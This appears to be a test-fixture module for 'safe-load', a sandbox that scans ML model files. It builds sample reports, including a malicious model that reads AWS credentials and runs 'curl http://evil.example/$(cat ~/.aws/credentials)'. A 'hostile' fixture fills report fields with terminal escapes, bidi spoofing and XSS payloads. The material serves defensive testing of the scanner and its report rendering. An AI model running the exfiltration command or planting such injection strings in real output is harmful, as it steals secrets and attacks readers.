"""Reports built by hand: what the formats and the command line are shown in their tests."""

from __future__ import annotations

from safe_load.report import (
    Egress,
    Event,
    Export,
    ExportedFile,
    FileInfo,
    Finding,
    Process,
    Recording,
    Report,
    Resources,
    SandboxInfo,
    Source,
    Stage,
    SyscallCount,
    Tensors,
    Tool,
    WallState,
)

ESCAPE = "\x1b]0;owned\x07\x1b[2J\x1b[31m"
BIDI = "\u202egpj.exe\u2066"
MARKUP = "[bold red]x[/] <script>alert(1)</script> <img src=x onerror=alert(1)> ![x](http://evil.example/x.png)"
FENCE = "`` ` ``` | \\| @everyone [x]: http://evil.example ]]> --> &amp; \"'"
LINES = "first\nsecond\r\nthird\u2028fourth\x85fifth\x9b31m"
HOSTILE = (ESCAPE, BIDI, MARKUP, FENCE, LINES, "\ufeff\u200b\ufffe\U000e0041\u3164", "a" * 5000)
TOOL = Tool("safe-load", "0.1.0")
STANDS = [
    WallState(name, "standing")
    for name in ("user-namespace", "mount-namespace", "landlock", "seccomp", "recorder")
]
ROOM = SandboxInfo("native", None, "A", "strict", STANDS)
STAGES = [
    Stage("inventory", 0.01),
    Stage("extract", 0.09),
    Stage("detonate", 1.9),
    Stage("compare", 0.02),
]


def clean(path: str = "models/bert-tiny") -> Report:
    """A model with nothing to find in it."""
    return Report(
        tool=TOOL,
        source=Source(path, "4e1c1d2f9f"),
        started="2026-01-02T03:04:05Z",
        duration_s=2.13,
        verdict="clean",
        outcome="ok",
        sandbox=ROOM,
        files=[
            FileInfo("config.json", 612, "ab" * 32, "json"),
            FileInfo("pytorch_model.bin", 17_756_393, "cd" * 32, "torch-zip"),
        ],
        stages=STAGES,
        recording=Recording(syscalls={"openat": SyscallCount(allowed=212)}),
        tensors=Tensors(
            count=39,
            parameters=4_385_920,
            bytes=17_543_680,
            dtypes={"F32": 39},
            tied=[["cls.decoder.weight", "bert.embeddings.weight"]],
        ),
        resources=Resources(480_000_000, 2.4, 3),
    )


def exported(path: str = "cleared") -> Report:
    """The clean model after `load`."""
    files = [
        ExportedFile("config.json", 540, "ef" * 32),
        ExportedFile("model.safetensors", 17_547_912, "01" * 32),
        ExportedFile("report.json", 9_000, "23" * 32),
    ]
    report = clean()
    return _with(report, stages=[*STAGES, Stage("export", 0.05)], export=Export(path, files))


def malicious(path: str = "models/stealer") -> Report:
    """A model that runs a program, looks for secrets and sends them home."""
    events = [
        Event(
            0.61,
            "detonate",
            2,
            "python",
            "openat",
            {"path": "/home/user/.aws/credentials"},
            "allowed",
        ),
        Event(
            0.62,
            "detonate",
            2,
            "python",
            "openat",
            {"path": "/etc/shadow"},
            "denied",
            "EACCES",
            count=3,
        ),
        Event(
            0.70,
            "detonate",
            2,
            "python",
            "execve",
            {"path": "/bin/sh", "argv": ["sh", "-c", "id"]},
            "denied",
            "EPERM",
        ),
        Event(
            0.81,
            "detonate",
            2,
            "python",
            "connect",
            {"address": "192.0.2.7", "port": 443},
            "redirected",
        ),
        Event(0.90, "detonate", 2, "python", "ptrace", {"request": 16}, "denied", "EPERM"),
    ]
    return Report(
        tool=TOOL,
        source=Source(path),
        started="2026-01-02T03:04:05Z",
        duration_s=3.42,
        verdict="malicious",
        outcome="rejected",
        outcome_detail="4 findings at or above medium, nothing was exported",
        sandbox=ROOM,
        files=[FileInfo("pytorch_model.bin", 17_756_393, "cd" * 32, "torch-zip")],
        stages=STAGES,
        recording=Recording(
            syscalls={"openat": SyscallCount(212, 3), "execve": SyscallCount(0, 1)}, events=events
        ),
        egress=[
            Egress(0.79, "dns", "192.0.2.7", 53, "evil.example", "", 31),
            Egress(
                0.81,
                "tcp",
                "192.0.2.7",
                443,
                "evil.example",
                "GET /exfil?k=AKIA HTTP/1.1\r\nHost: evil.example\r\n",
                48,
            ),
        ],
        processes=[
            Process(0.70, 2, 1, ["sh", "-c", "curl http://evil.example/$(cat ~/.aws/credentials)"])
        ],
        findings=[
            Finding("SL401", "medium", "A forbidden system call", "ptrace", "", [4]),
            Finding(
                "SL501",
                "low",
                "A pickle names a callable outside the allowlist",
                "names os.system",
                "pytorch_model.bin: data.pkl, byte 17",
            ),
            Finding(
                "SL101",
                "critical",
                "A program was executed",
                "sh -c 'curl …' was refused",
                "pytorch_model.bin",
                [2],
            ),
            Finding(
                "SL201",
                "high",
                "Egress was attempted",
                "48 bytes to evil.example (192.0.2.7:443)",
                "pytorch_model.bin",
                [3],
            ),
            Finding(
                "SL301",
                "critical",
                "A decoy secret was read",
                "/home/user/.aws/credentials",
                "",
                [0],
            ),
        ],
    )


def hostile() -> Report:
    """A malicious report with an attack on its reader in every string that a model can choose."""
    text = " ".join(HOSTILE[:-1])
    base = malicious(path=f"models/{text}")
    return _with(
        base,
        source=Source(f"models/{text}", text),
        outcome_detail=text,
        sandbox=SandboxInfo("native", text, "B", text, [WallState(text, "weaker", text)]),
        files=[FileInfo(text, 1, None, text)],
        recording=Recording(
            complete=False,
            dropped=7,
            syscalls={text: SyscallCount(1, 2)},
            events=[
                Event(
                    0.1,
                    text,
                    2,
                    text,
                    text,
                    {"path": text, text: [text, {"x": text}]},
                    "denied",
                    text,
                )
            ],
        ),
        egress=[
            Egress(0.1, text, text, None, text, text, 3),
            Egress(0.1, "dns", text, 53, text, text, 3),
        ],
        processes=[Process(0.2, 2, 1, [text, *HOSTILE])],
        findings=[
            Finding(text, "high", text, text, text, [0, 99]),
            *(Finding("SL501", "medium", t, t, t) for t in HOSTILE),
        ],
        tensors=Tensors(1, 1, 4, {text: 1}, [[text, text]]),
        export=Export(
            text, [ExportedFile(text, 1, text), ExportedFile(f"{text}.safetensors", 1, text)]
        ),
        notes=[text, *HOSTILE],
    )


def not_loadable(path: str = "models/broken.bin") -> Report:
    """A file that is no model."""
    return Report(
        tool=TOOL,
        source=Source(path),
        started="2026-01-02T03:04:05Z",
        duration_s=0.2,
        verdict="unknown",
        outcome="not_loadable",
        outcome_detail="broken.bin ends after 12 of 4096 bytes",
        sandbox=ROOM,
    )


def _with(report: Report, **changes: object) -> Report:
    fields = {name: getattr(report, name) for name in report.__struct_fields__}
    return Report(**{**fields, **changes})
